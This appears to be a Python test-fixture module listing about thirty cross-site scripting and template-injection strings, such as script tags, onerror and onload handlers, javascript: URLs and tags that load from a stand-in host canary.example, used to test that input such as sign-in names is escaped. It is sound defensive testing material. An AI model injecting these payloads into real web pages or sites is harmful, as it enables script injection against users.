"""Texts that try to become markup, script or template code; each would call ``alert`` or plant an element."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT/SRC=//canary.example/x.js></SCRIPT>",
    "<img/src=x/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<x-planted></x-planted>",
    '"><x-planted>',
    "'><x-planted>",
    "'\"--><x-planted>",
    "</title><x-planted>",
    "</textarea><x-planted>",
    "</script><x-planted>",
    "</option></select><x-planted>",
    '"autofocus/onfocus="alert(1)',
    "'autofocus/onfocus='alert(1)",
    '"onmouseover="alert(1)"x="',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a/href=javascript:alert(1)>x-planted</a><x-planted>",
    "<iframe/srcdoc='<x-planted>'onload=alert(1)>",
    "<math><mi/xlink:href='javascript:alert(1)'><x-planted>",
    "<details/open/ontoggle=alert(1)>",
    "<base/href=//canary.example/>",
    "<meta/http-equiv=refresh/content=0;url=//canary.example/>",
    "<style>@import'//canary.example/x.css'</style>",
    "<form/action=//canary.example/><input/name=x-planted>",
    "{{7|add:'42'}}x-planted{%debug%}",
    "${alert(1)}<x-planted>",
    "\\u003cx-planted\\u003e\\x3cx-planted\\x3e",
    "&lt;x-planted&gt;&#60;x-planted&#62;",
    "＜x-planted＞<x-planted",
    "<!--><x-planted>",
    "<![CDATA[><x-planted>]]>",
)
"""No spaces: sign-in names have none."""
